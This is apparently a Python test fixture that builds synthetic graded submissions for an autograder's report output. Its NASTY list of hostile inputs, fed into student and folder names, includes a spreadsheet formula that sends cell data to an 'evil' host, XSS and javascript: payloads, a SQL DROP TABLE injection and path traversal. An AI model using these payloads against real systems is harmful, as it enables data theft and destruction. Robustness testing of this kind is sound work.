"""Graded submissions of a class, made up: most are right, some wrong, a few hostile."""

import random
from functools import cache
from pathlib import Path

import numpy as np

from autograder.config import Course, load_course
from autograder.config.paths import REPOSITORY
from autograder.grading.intake.source import Student
from autograder.grading.judging.checks import CheckInfo
from autograder.grading.judging.result import Scope, SubmissionResult
from checkkit.runner.outcomes import Outcome
from checkkit.runner.results import CheckResult, Images
from checkkit.text import one_line

DIGITS = REPOSITORY.digits
CHECKS_OF_A_TASK = 7
NASTY = (
    '=HYPERLINK("http://evil/?"&A1,"open")',
    "<img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE students;--",
    "\x1b[31mred\x1b[0m \x00 nul",
    "\u202egnp.exe",
    '名前/../../etc 🎲 "quoted"',
    "</script><script>document.title='owned'</script>",
    "javascript:alert(1)#?%2e%2e&amp;",
    "   Points Possible",
    "x" * 79,
)
FIRST = ("Ada", "Björn", "Chloé", "Dmitri", "Emeka", "Fatima", "Grace", "Hiroshi", "Ines", "João")
LAST = ("Andersen", "Chen", "Dąbrowski", "Eze", "García", "Haddad", "Ito", "Kaur", "Müller")
DIAGNOSES = {
    "schedule": ("betas: one entry short", "alpha_bars: of betas"),
    "sample": ("noise at t = 1", "sigma: beta_t without root", "t from 0"),
    "forward": ("t: 0 to T - 1", "x_t: sqrt missing", "target = x_0"),
    "cfg_sample": ("guidance 1 - w", "guidance eps_u + w eps_c"),
    "cfg_forward": ("dropped: kept instead", "dropped: whole batch"),
    "blocks": ("Conv: GELU before BatchNorm", "Flatten: no GELU"),
    "hidden_sample": ("sigma: beta_t without root",),
}


def course_checks(course: Course) -> tuple[CheckInfo, ...]:
    """Some checks for every task."""
    return tuple(
        CheckInfo(
            f"test_{task.id}::test_claim_{i}",
            task.id,
            task.hidden,
            False,
            f"Claim {i} of {task.id} holds.",
        )
        for task in course.auto_tasks.values()
        for i in range(1 if task.id.startswith("digits") else CHECKS_OF_A_TASK)
    )


def graded_class(count: int, seed: int = 0, nasty_every: int = 25) -> list[SubmissionResult]:
    """So many submissions; every eighth is by two students, every fiftieth by nobody known.

    One in `nasty_every` has a hostile name, of the student or of the folder by turns.
    """
    course = load_course()
    scope = Scope(course, course_checks(course), tuple(course.auto_tasks))
    draw = random.Random(seed)
    return [_submission(i, scope, draw, _nasty(i, nasty_every)) for i in range(count)]


@cache
def _digits() -> np.ndarray:
    """(30, 10, 28, 28): rows of 0 to 9."""
    data = np.load(DIGITS)
    images, labels = data["test_images"] / 255, data["test_labels"]
    return np.stack([images[labels == digit][:30] for digit in range(10)], axis=1)


def _nasty(i: int, every: int) -> str:
    return NASTY[i // every % len(NASTY)] if i % every == every // 2 else ""


def _submission(i: int, scope: Scope, draw: random.Random, nasty: str) -> SubmissionResult:
    folder = f"{one_line(nasty, 70)}-{i}".replace("/", "-").strip(". ")  # as naming does it
    name = folder if nasty and draw.random() < 0.5 else f"submission_{100_000 + i}"
    students = tuple(_student(i, k, nasty, draw) for k in range(2 if i % 8 == 3 else 1))
    graded = SubmissionResult(
        name,
        Path("handed-in") / name,
        scope,
        "bwrap",
        True,
        seeds=[f"{draw.getrandbits(128):032x}"],
        ignored=("notes.txt", nasty) if nasty else (),
        complaints=("it changed the default dtype",) if i % 60 == 11 else (),
        outputs=(f"epoch 1 loss 0.1\n{nasty}",) if i % 9 == 0 else (),
        finished=True,
        seconds=draw.lognormvariate(3.6, 0.4),
        started=f"2026-12-12T{i // 60 % 24:02}:{i % 60:02}:00+00:00",
        students=() if i % 50 == 49 else students,
        submitted_at=f"2026-12-{draw.choice((9, 10, 11, 11, 12)):02}T18:30:00+01:00",
        suspicions=(f"ddpm.py:12: reads a file: open({nasty or 'answers'!r})",)
        if i % 40 == 13
        else (),
        fresh=i % 4 != 0,
    )
    if i % 100 == 42:
        graded.problem, graded.finished = f"holds no folder named diffusion {nasty}", False
        return graded
    skill = draw.betavariate(5, 1.2)
    for task in scope.course.auto_tasks.values():
        _judge(graded, task.id, skill, nasty, draw)
    if i % 90 == 17:
        digits = graded.results["test_digits::test_claim_0"]
        digits.outcome, digits.message = Outcome.REVIEW, "All other checks passed."
    if i % 120 == 30:
        graded.results["test_unet::test_claim_0"].outcome = Outcome.GRADER_ERROR
    _show_digits(graded, skill, draw)
    return graded


def _student(i: int, k: int, nasty: str, draw: random.Random) -> Student:
    name = nasty if nasty and k == 0 else f"{draw.choice(FIRST)} {draw.choice(LAST)}"
    number = f"{4_000_000 + 10 * i + k}"
    return Student(number, name, f"s{number}@example.edu")


def _judge(
    graded: SubmissionResult, task: str, skill: float, nasty: str, draw: random.Random
) -> None:
    """Mostly a task is right or wrong as a whole; what is wrong tends to have a diagnosis."""
    ill = draw.choices(
        [None, Outcome.FAILED, Outcome.NOT_ATTEMPTED, Outcome.CRASHED, Outcome.TIMED_OUT],
        [6 * skill, 1.6 * (1 - skill) + 0.12, 0.5 * (1 - skill), 0.03, 0.03],
    )[0]
    for check in graded.scope.checks_of[task]:
        bad = ill is not None and (ill is Outcome.NOT_ATTEMPTED or draw.random() < 0.6)
        outcome = ill if bad else Outcome.PASSED
        if task == "digits_gpu":
            outcome = Outcome.NOT_RUN
        result = CheckResult(check.name, task, check.sentence, outcome, "Look at `x_t` again.")
        result.seconds = draw.expovariate(2 if task.startswith("train") else 8)
        if outcome is Outcome.FAILED:
            result.message = f"seen 1.732, expected 3.0 {nasty}"
            result.detail = f"Traceback (most recent call last):\n  {nasty}\nAssertionError"
            if task in DIAGNOSES and draw.random() < 0.7:
                result.mistake = draw.choice(DIAGNOSES[task])
                result.message += f"\nThis looks like {result.mistake}."
        graded.results[check.name] = result


def _show_digits(graded: SubmissionResult, skill: float, draw: random.Random) -> None:
    digits = graded.results["test_digits::test_claim_0"]
    if digits.outcome in (Outcome.PASSED, Outcome.FAILED, Outcome.REVIEW):
        start = draw.randrange(26)
        noise = np.random.default_rng(start).normal(0, 0.9 * (1 - skill) ** 1.5, (40, 28, 28))
        images = (_digits()[start : start + 4].reshape(40, 28, 28) + noise).clip(0, 1)
        digits.exhibits = [Images("Your digits", images, tuple("0123456789" * 4), samples=True)]
